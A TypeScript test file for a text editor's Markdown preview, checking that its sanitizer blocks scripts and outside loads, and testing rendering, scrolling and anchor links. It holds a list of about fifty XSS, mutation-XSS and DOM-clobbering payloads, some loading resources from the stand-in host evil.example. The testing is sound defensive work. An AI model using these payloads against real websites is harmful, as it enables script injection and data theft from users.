// The Markdown preview shows a document, but runs and loads nothing that the document contains.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  newContext,
  startTextEditorLab,
  type OpenTextEditor,
  type OpenOptions,
  type TextEditorLab,
  type TextElement,
} from './open-text-editor.ts';
import { until } from '../until.ts';

let lab: TextEditorLab;
before(async () => {
  lab = await startTextEditorLab();
});
after(async () => lab.close());

async function open(name: string, content: string, options: OpenOptions = {}): Promise<OpenTextEditor> {
  await lab.write(name, content);
  const editor = await lab.open(name, options);
  await editor.untilStatus('Saved');
  return editor;
}

/** Elements, and attributes with an @ in front. */
const forbidden = (
  'script img svg iframe object embed video audio style link form meta base button template math source picture ' +
  '@style @src @srcset @id @name @class @ping @onclick @onerror @onload @onfocus @action @background'
).split(' ');

/** Types the attack below a heading, and waits until that heading is drawn. */
async function draw({ frame }: OpenTextEditor, index: number, attack: string) {
  return frame.evaluate(
    async ([heading, source]) => {
      const { view } = document.querySelector<TextElement>('.cm-content')!.cmTile;
      const to = view.state.doc.toString().length;
      view.dispatch({ changes: { from: 0, to, insert: source } });
      const endsAtMs = performance.now() + 60_000;
      while (document.querySelector('.markdown h1')?.textContent !== heading && performance.now() < endsAtMs)
        await new Promise((resolve) => requestAnimationFrame(resolve));
      return {
        html: document.querySelector('.markdown')?.innerHTML ?? '',
        parts: [...document.querySelectorAll('.markdown *')].flatMap((element) => [
          element.localName,
          ...element
            .getAttributeNames()
            // no ids and names of the page
            .filter((name) => !element.getAttribute(name)?.startsWith('user-content-'))
            .map((name) => `@${name}`),
        ]),
        links: [...document.querySelectorAll('.markdown a[href]')].map((link) => ({
          href: link.getAttribute('href') ?? '',
          target: link.getAttribute('target'),
          rel: link.getAttribute('rel'),
        })),
      };
    },
    [String(index), `# ${index}\n\n${attack}\n`] as const,
  );
}

/** Each of them tries to set `window.attacked = true` or to load something from `evil.example`. */
const attacks: string[] = [
  '<script>window.attacked = true</script>',
  '<script src="https://evil.example/a.js"></script>',
  '<SCRIPT>window.attacked = true</SCRIPT>',
  '<img src="https://evil.example/pixel.png">',
  '<img src=x onerror="window.attacked = true">',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" loading=lazy>',
  '<svg onload="window.attacked = true"><circle r=1></svg>',
  '<svg><script>window.attacked = true</script></svg>',
  '<svg><image href="https://evil.example/a.svg"/></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<svg><animate onbegin="window.attacked = true" attributeName=x dur=1s></svg>',
  '<svg><style><img src=x onerror="window.attacked = true"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.attacked=true&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.attacked = true">',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=true>">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>',
  '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b">',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video poster="https://evil.example/p.png"></video><picture><source srcset="https://evil.example/s.png"></picture>',
  '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/p">',
  '<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }</style>',
  '<p style="background: url(https://evil.example/s.png)">styled</p>',
  '<table background="https://evil.example/t.png"><td background="https://evil.example/td.png">x</table>',
  '<body background="https://evil.example/body.png" onload="window.attacked = true">',
  '<meta http-equiv=refresh content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus="window.attacked = true"><button>x</button></form>',
  '<input type=image src="https://evil.example/i.png">',
  '<details open ontoggle="window.attacked = true"><summary>x</summary></details>',
  '<div contenteditable onblur="window.attacked = true" autofocus tabindex=1 onfocus="window.attacked = true">x</div>',
  '<a href="javascript:window.attacked=true">a</a>',
  '<a href=" java&#10;script:window.attacked=true">b</a>',
  '<a href="&#x6A;avascript:window.attacked=true">c</a>',
  '<a href="data:text/html,<script>opener.attacked=true</script>">d</a>',
  '<a href="vbscript:x">e</a><a href="file:///etc/passwd">f</a><a href="blob:x">g</a>',
  '<a href="https://example.com/" target=_self ping="https://evil.example/ping" onclick="window.attacked = true">h</a>',
  '[i](javascript:window.attacked=true)',
  '[j](<javascript:window.attacked=true>)',
  '[k]: javascript:window.attacked=true\n\n[k]',
  '![l](https://evil.example/md.png)',
  '![m](javascript:window.attacked=true)',
  '![n"onerror="window.attacked=true](x)',
  '[o](https://example.com/"onclick="window.attacked=true)',
  '`<img src=x onerror=window.attacked=true>`',
  '```html"><script>window.attacked=true</script>\nx\n```',
  '<div id=app name=session class=bar>clobbered</div><form id=session></form><a id=preview name=body>x</a>',
  '<template><img src=x onerror="window.attacked = true"></template>',
  '<xmp><img src=x onerror="window.attacked = true"></xmp><plaintext><img src=x onerror="window.attacked = true">',
];

describe('the Markdown preview', () => {
  /** Draws each, and checks what the sanitizer keeps of it. Own: calls to the host, and scripts that highlight code blocks. */
  async function assertHarmless(editor: OpenTextEditor, documents: readonly string[]): Promise<void> {
    const { page, frame } = editor;
    const requests: string[] = [];
    page.on('request', (request) => {
      const isOwn = /^\/(?:wopi\/files\/[\w-]+(?:\/contents)?|assets\/chunk-[\w-]+\.js)$/;
      const url = new URL(request.url());
      if (url.origin !== new URL(frame.url()).origin || !isOwn.test(url.pathname)) requests.push(url.href);
    });
    for (const [index, document] of documents.entries()) {
      const shown = await draw(editor, index, document);
      assert.ok(shown.html.includes(`${index}</h1>`), `not drawn: ${document}`);
      const bad = shown.parts.filter((part) => forbidden.includes(part));
      assert.deepEqual(bad, [], `${document}:\n${shown.html}`);
      for (const { href, target, rel } of shown.links) {
        assert.match(href, /^(?:https?:\/\/|mailto:)/, document);
        assert.deepEqual([target, rel], ['_blank', 'noopener noreferrer'], document);
      }
    }
    assert.deepEqual(requests, []);
    assert.equal(await frame.evaluate(() => 'attacked' in window), false);
    // DOMPurify parses in a separate document; Chromium reports its attributes as violations of the policy
    const unexpected = editor.problems.filter(
      (problem) => !/Content Security Policy directive/.test(problem),
    );
    assert.deepEqual(unexpected, []);
  }
  const together = attacks.join('\n\n');

  // What the sanitizer keeps doesn't depend on the policy, so each attack alone is drawn only where the policy can't hide it.
  it('runs no script and loads nothing, whatever the document contains, without the content security policy', async () => {
    const context = await newContext(lab.browser, { bypassCSP: true });
    const editor = await open('attacks.md', 'safe', { context });
    await assertHarmless(editor, [...attacks, together]);
    await editor.leave();
    await context.close();
  });

  it('shows headings, tables, tasks, code and the alt text of images, keeps the focus of a link when the file changes, is off while changes are shown, and loads nothing with the policy', async () => {
    const editor = await open(
      'features.md',
      '# Title\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\na < b\n```\n\n![a cat](cat.png) <https://example.com/?a=1&b=2> ~~old~~\n',
    );
    const { frame } = editor;
    await frame.locator('.markdown h1', { hasText: 'Title' }).waitFor();
    const shown = await frame.locator('.markdown').evaluate((content) => ({
      tasks: [...content.querySelectorAll('input')].map(({ checked, disabled }) => checked && disabled),
      align: content.querySelectorAll('td')[1]?.getAttribute('align'),
      code: content.querySelector('pre')?.innerText,
      image: content.querySelector<HTMLElement>('[data-image]')?.innerText,
      link: content.querySelector('a')?.getAttribute('href'),
    }));
    assert.deepEqual(shown, {
      tasks: [true, false],
      align: 'right',
      code: 'a < b\n',
      image: 'Image: a cat',
      link: 'https://example.com/?a=1&b=2',
    });

    await frame.getByRole('link', { name: 'https://example.com/?a=1&b=2' }).focus();
    await lab.write('features.md', '# Changed\n\nMARK\n');
    await frame.locator('.markdown h1').getByText('Changed').waitFor();
    assert.equal(await frame.evaluate(() => document.activeElement?.className), 'preview');

    // Comparing has the whole width.
    const button = frame.getByRole('button', { name: 'Preview', exact: true });
    const state = async (): Promise<unknown[]> => [
      await button.getAttribute('aria-pressed'),
      await button.isEnabled(),
    ];
    assert.deepEqual(await state(), ['true', true]);
    await editor.typeUnsaved('MARK', ' mine');
    await lab.forceClear(editor);
    await editor.press('Show what changed');
    await until('no preview', async () => (await state()).join() === 'false,false');
    await editor.press('Hide changes');
    await until('the preview', async () => (await state()).join() === 'true,true');

    await assertHarmless(editor, [together]);
    await editor.close();
  });

  it('starts at the top, follows typing, scrolling and links to headings and anchors, and says so when it can’t draw a document, while the user can keep typing', async () => {
    const blocks = Array.from({ length: 200 }, (_, index) => `## Heading ${index}\n\nText ${index}.\n`);
    const editor = await open('long.md', blocks.join('\n'));
    const { frame, page } = editor;
    const scrollTop = async (): Promise<number> =>
      frame.locator('.preview').evaluate(async (pane) => {
        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
        return pane.scrollTop;
      });
    await frame.locator('.markdown').getByText('Text 199.').waitFor();
    assert.equal(await scrollTop(), 0);
    await editor.typeAfter('Text 3', ' and more');
    await frame.locator('.markdown').getByText('Text 3 and more.').waitFor();
    await frame.evaluate(() => {
      const scroller = document.querySelector('.cm-scroller');
      if (scroller !== null) scroller.scrollTop = scroller.scrollHeight / 2;
    });
    const firstVisible = async (selector: string): Promise<number> =>
      frame.evaluate((wanted) => {
        const edge = document.querySelector('.preview')?.getBoundingClientRect().top ?? 0;
        const seen = [...document.querySelectorAll(wanted)].find(
          (element) =>
            element.getBoundingClientRect().bottom > edge && /Heading \d/.test(element.textContent),
        );
        return Number(/Heading (\d+)/.exec(seen?.textContent ?? '')?.[1] ?? -1);
      }, selector);
    await until('both in step', async () => {
      const [inText, inPreview] = [await firstVisible('.cm-line'), await firstVisible('.markdown h2')];
      return inText > 50 && Math.abs(inText - inPreview) <= 3;
    });
    await editor.untilStatus('Saved');

    const filler = 'A paragraph.\n\n'.repeat(60);
    const source = [
      '[first](#used-twice) [second](#used-twice-1) [other](#gr%C3%B6%C3%9Fe--c-100-) [top](#)',
      '[site](https://example.com/#used-twice)',
      filler,
      '# Used *twice*',
      filler,
      '## Used twice',
      '## Größe & `C++` (100 %)',
      filler,
      '<h2 id="app" name="body">Clobbered</h2>',
      '# constructor',
      'Read <a name="Note-1"></a>this note.',
      '<p id="second">A paragraph.</p>',
      '[note](#note-1) [paragraph](#second) [clobbered](#app)',
    ].join('\n\n');
    await lab.write('long.md', source);
    const follow = async (name: string): Promise<void> => frame.getByRole('link', { name }).click();
    await frame.getByRole('link', { name: 'clobbered' }).waitFor();
    const topOf = async (heading: number): Promise<number> =>
      frame.evaluate((index) => {
        const edge = document.querySelector('.preview')?.getBoundingClientRect().top ?? 0;
        const found = document.querySelectorAll('.markdown :is(h1, h2)')[index];
        return Math.round((found?.getBoundingClientRect().top ?? NaN) - edge);
      }, heading);
    const url = page.url();
    for (const [index, name] of ['first', 'second'].entries()) {
      await follow(name);
      await until(name, async () => Math.abs(await topOf(index)) < 80);
      await frame.evaluate(() => document.querySelector('.preview')?.scrollTo(0, 0));
    }
    await frame.getByRole('link', { name: 'other' }).focus();
    await page.keyboard.press('Enter');
    await until('the heading has the focus', async () =>
      frame.evaluate(() => document.activeElement?.textContent === 'Größe & C++ (100 %)'),
    );
    const focused = async (): Promise<string | undefined> =>
      frame.evaluate(() => document.activeElement?.parentElement?.textContent.trim());
    for (const [name, target] of [
      ['note', 'Read this note.'],
      ['paragraph', 'A paragraph.'],
      ['clobbered', 'Clobbered'],
    ] as const) {
      await follow(name);
      await until(name, async () => (await focused()) === target);
    }
    await frame.getByRole('link', { name: 'top' }).click({ button: 'middle' });
    await frame.getByRole('link', { name: 'top' }).click({ modifiers: ['Control'] });
    await until('the top', async () => (await scrollTop()) === 0);
    assert.equal(page.url(), url);
    assert.equal(editor.context.pages().length, 1);
    const site = frame.getByRole('link', { name: 'site' });
    assert.deepEqual(
      [await site.getAttribute('href'), await site.getAttribute('target'), await site.getAttribute('rel')],
      ['https://example.com/#used-twice', '_blank', 'noopener noreferrer'],
    );
    assert.deepEqual(
      await frame.locator('.markdown [id]').evaluateAll((found) => found.map(({ id }) => id)),
      ['used-twice', 'used-twice-1', 'größe--c-100-', 'app', 'constructor', 'second'].map(
        (name) => `user-content-${name}`,
      ),
    );

    await lab.write('long.md', `${'> '.repeat(8_000)}MARK`);
    await editor.untilShown('This document can’t be previewed.');
    await editor.typeAfter('MARK', ' more');
    await until('the text on disk', async () => (await lab.textOnDisk('long.md')).endsWith('MARK more'));
    // CodeMirror can't highlight it, either
    assert.deepEqual(
      editor.problems.filter((problem) => !problem.startsWith('CodeMirror plugin crashed: RangeError')),
      [],
    );
    await page.keyboard.press('Control+a');
    await page.keyboard.type('# Better');
    await frame.locator('.markdown h1').getByText('Better').waitFor();
    await editor.close();
  });

  it('remembers whether it is shown, and stays hidden in narrow windows', async () => {
    const editor = await open('toggle.md', '# A');
    const isShown = async ({ frame }: OpenTextEditor) => frame.locator('.preview').isVisible();
    await editor.press('Preview');
    assert.equal(await isShown(editor), false);
    const second = await lab.open('toggle.md', { context: editor.context });
    await second.frame.locator('.cm-content').waitFor();
    assert.equal(await isShown(second), false);
    await editor.close();
    // Another document: the tabs that were just closed may still have the lock of this one.
    const narrow = await open('narrow.md', '# A', { size: { width: 500, height: 700 } });
    assert.equal(await isShown(narrow), false);
    await narrow.close();
  });
});
